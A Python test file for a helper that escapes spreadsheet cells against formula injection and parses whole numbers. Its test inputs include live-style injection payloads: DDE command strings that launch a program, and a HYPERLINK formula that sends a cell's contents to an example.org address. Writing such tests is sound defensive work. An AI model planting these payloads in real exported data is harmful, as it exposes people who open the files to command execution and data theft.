"""Cells that a spreadsheet would compute: none begins as a formula, and each is read back equal."""

import pytest

from alignment.rows.cells import COMPUTED, MARKED, safe_cells, unmarked, whole_number

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "- a list",
    "+49 30 1234",
)
PLAIN = ("", "'", "'=1+1", "''=1+1", "Why?", "a=b", ' "quoted", and more', "1,5;2", "line\nline")


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_a_cell_is_safe_and_read_back_equal(text):
    names = ("prompt", "chosen")
    cells = safe_cells({"prompt": text, "chosen": "same"}, names)
    assert not cells[0].startswith(COMPUTED)
    read = unmarked(dict(zip((*names, MARKED), cells, strict=True)))
    assert (read["prompt"], read["chosen"]) == (text, "same")


def test_only_what_would_be_computed_gets_a_mark():
    assert [safe_cells({"a": text}, ["a"])[0] for text in PLAIN] == [*PLAIN]


def test_values_are_written_as_json_and_nothing_as_nothing():
    row = {"a": None, "b": True, "c": 3, "d": ["x"], "e": "=x"}
    assert safe_cells(row, [*row]) == ["", "true", "3", '["x"]', "'=x", "e"]


@pytest.mark.parametrize("value", [4, 4.0, "4", "4.0", "4.00", "4.", " 4 ", "+4", "04"])
def test_a_whole_number_is_one_however_it_is_written(value):
    assert whole_number(value) == 4
    assert isinstance(whole_number(value), int)


@pytest.mark.parametrize(
    "value", [4.5, "4.5", "4.01", "1e3", "", ".0", "4,0", "4" * 10, "٤", True, None, [4], 10**400]
)
def test_any_other_value_is_as_it_is(value):
    assert whole_number(value) is value
